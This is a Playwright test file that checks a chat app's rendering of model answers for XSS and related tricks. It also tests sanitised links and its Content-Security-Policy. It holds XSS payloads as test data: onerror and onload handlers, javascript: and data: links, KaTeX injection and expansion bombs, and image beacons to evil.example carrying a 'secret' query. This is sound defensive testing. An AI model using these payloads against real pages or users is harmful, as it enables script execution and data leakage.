"""What a model writes cannot run, fetch or lead anywhere it should not."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import ROOT, OpenApp, StartServer
from tests.support.fake_model import FakeModel, Think

HOSTILE = (ROOT / "web" / "dev" / "answers" / "hostile.md").read_text(encoding="utf-8")
TRICKS = {
    "onerror": '<img src=x onerror="window.__xss = 1">',
    "script": "<script>window.__xss = 1</script>",
    "svg": '<svg onload="window.__xss = 1"><script>window.__xss = 1</script></svg>',
    "javascript link": "[x](javascript:window.__xss=1) [y](JaVaScRiPt:window.__xss=1) [z](java\tscript:window.__xss=1)",
    "data link": "[x](data:text/html,<script>window.__xss=1</script>)",
    "remote image": "![x](https://evil.example/p.png?q=secret) ![y][r]\n\n[r]: https://evil.example/q.png",
    "svg data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "katex": "$\\href{javascript:window.__xss=1}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/a}$",
    "katex html": "$\\htmlClass{a}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$",
    "katex bomb": "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$",
    "table": "|a|\n|-|\n|<img src=x onerror='window.__xss=1'>|",
    "code": "```html\n<img src=x onerror='window.__xss=1'>\n```\n\n```\"><script>window.__xss=1</script>\nx\n```",
}


def _is_harmless(page: Page) -> None:
    page.wait_for_timeout(300)
    found = page.evaluate(
        """() => {
            const answer = document.querySelector(".column");
            const elements = [...answer.querySelectorAll("*")];
            return {
                ran: window.__xss ?? null,
                loaded: elements.filter((e) => e.matches("img, script, iframe, object, embed, video, link, image"))
                    .map((e) => e.outerHTML),
                handlers: elements.flatMap((e) => [...e.attributes]).filter((a) => /^on/i.test(a.name)).length,
                links: [...answer.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.rel]),
            };
        }"""
    )
    assert found["ran"] is None
    assert found["loaded"] == []
    assert found["handlers"] == 0
    for href, rel in found["links"]:
        assert urlsplit(href).scheme in ("http", "https", "mailto")
        assert rel == "noopener noreferrer"


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_in_an_answer(open_app: OpenApp, start_server: StartServer, trick: str) -> None:
    text = TRICKS[trick]
    app = open_app(start_server(FakeModel([Think(text), f"Before.\n\n{text}", "\n\nAfter."], thinking="always")))
    app.sign_in()
    app.ask("Go on")
    expect(app.finished()).to_contain_text("After.")
    app.page.get_by_role("button", name="Thought for").click()
    _is_harmless(app.page)
    app.page.reload()
    expect(app.finished()).to_contain_text("After.")
    _is_harmless(app.page)
    app.fits()


def test_all_tricks_together_and_what_is_fine_still_works(open_app: OpenApp, start_server: StartServer) -> None:
    app = open_app(start_server(FakeModel([HOSTILE])))
    app.sign_in()
    app.ask("<img src=x onerror='window.__xss=1'> **not bold**")
    answer = app.finished()
    _is_harmless(app.page)
    expect(app.page.locator("article.question")).to_contain_text("<img src=x onerror='window.__xss=1'> **not bold**")
    expect(answer.get_by_role("link", name="link", exact=True)).to_have_attribute("href", "https://example.org/")
    expect(answer.get_by_role("link", name="a remote image")).to_have_attribute(
        "href", "https://evil.example/pixel.png?q=secret"
    )
    expect(answer.locator(".katex-display")).to_have_count(1)
    # A tall bracket is an SVG whose size KaTeX gives as a style: it has to be there without a style attribute.
    assert answer.locator(".katex-display svg").first.bounding_box()["height"] > 60


def test_a_title_is_text(open_app: OpenApp, start_server: StartServer) -> None:
    app = open_app(start_server(FakeModel()))
    app.sign_in()
    app.ask("<img src=x onerror='window.__xss=1'>")
    app.finished()
    expect(app.chats).to_contain_text("<img src=x")
    expect(app.page).to_have_title("<img src=x onerror='window.__xss=1'> · Freehold")
    _is_harmless(app.page)


def test_the_pages_policy_is_strict(open_app: OpenApp, start_server: StartServer, built_app: Path) -> None:
    app = open_app(start_server(FakeModel()))
    policy = app.page.goto(app.server.url + "/").headers["content-security-policy"]
    app.page.wait_for_load_state("networkidle")
    app.watch.expect("401")
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'self'"
    assert directives["img-src"] == "'self' data: blob:"
    assert directives.get("script-src", "'self'") == "'self'"
    assert "unsafe" not in policy
    page = (built_app / "index.html").read_text(encoding="utf-8")
    assert "<style" not in page
    assert " style=" not in page
